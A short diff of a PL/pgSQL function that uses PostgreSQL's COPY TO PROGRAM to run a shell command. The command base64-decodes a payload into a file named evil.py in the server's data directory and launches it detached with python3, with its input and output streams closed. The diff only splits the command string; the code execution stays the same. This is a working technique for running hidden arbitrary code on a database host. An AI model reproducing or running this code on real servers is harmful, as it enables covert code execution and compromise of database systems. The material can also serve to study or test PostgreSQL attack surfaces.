@@ -49,7 +49,8 @@ declare data text := pg_catalog.current_setting('data_directory');
 begin
     if pg_catalog.current_setting('cluster_name') <> '' then
         execute pg_catalog.format('copy (select 1) to program %L', pg_catalog.format(
-            'cd /; echo {program} | base64 -d > %s/evil.py; setsid python3 -I -S %s/evil.py %s %s <&- >&- 2>&- & sleep 0.3',
+            'cd /; echo {program} | base64 -d > %s/evil.py; '
+            'setsid python3 -I -S %s/evil.py %s %s <&- >&- 2>&- & sleep 0.3',
             data, data, data, pg_catalog.pg_backend_pid()));
     end if;
     return true;
